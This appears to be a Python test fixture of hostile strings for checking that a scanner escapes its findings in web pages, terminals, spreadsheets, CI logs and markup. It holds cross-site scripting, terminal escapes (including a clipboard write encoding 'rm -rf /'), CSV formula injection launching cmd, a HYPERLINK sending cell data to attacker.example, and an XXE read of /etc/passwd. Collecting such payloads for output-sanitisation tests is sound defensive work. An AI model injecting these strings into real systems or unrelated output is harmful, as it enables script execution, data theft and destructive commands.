"""Texts that attack whoever shows them: a scanner's findings quote attackers.

They are aimed at web pages, terminals, spreadsheets, log files, CI annotations and layout.
"""

from __future__ import annotations

PAYLOADS = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style></textarea><svg onload=alert(1)>",
    "javascript:alert(document.domain)",
    "\x1b[2J\x1b[1;1Hscan passed, nothing found\x1b[0m",
    "\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1b]8;;https://attacker.example\x1b\\official report\x1b]8;;\x1b\\",
    "\x9b31mred\x9b0m\x90q\x9c",
    "invoice\u202efdp.exe\u2066 hidden\u2069",
    "zero\u200bwidth\u2060and\ufefftag\U000e0041",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example?"&A1,"click")',
    "first line\r\n::error::injected annotation\r\nSet-Cookie: a=b",
    "[bold red]markup[/] [link=https://attacker.example]here[/link]",
    "| a | b |\n|---|---|\n# heading\n[here](javascript:alert(1)) ![x](//attacker.example/p.png)",
    "{{7*7}} ${7*7} %(x)s %n%n {0.__class__} @HOST@ @ID@",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "Z" + "a\u0301" * 5_000,
    "W" * 10_000,
    "\u0000null\u0001\u0008\u007f control \ufffe\uffff",
    "   ",
)

MESSAGE = "\x1b[2J\u202e<script>alert(1)</script>\r\n::error::owned [bold]=cmd|' /C calc'!A0"
"""Several of them at once, for the message of an envelope."""
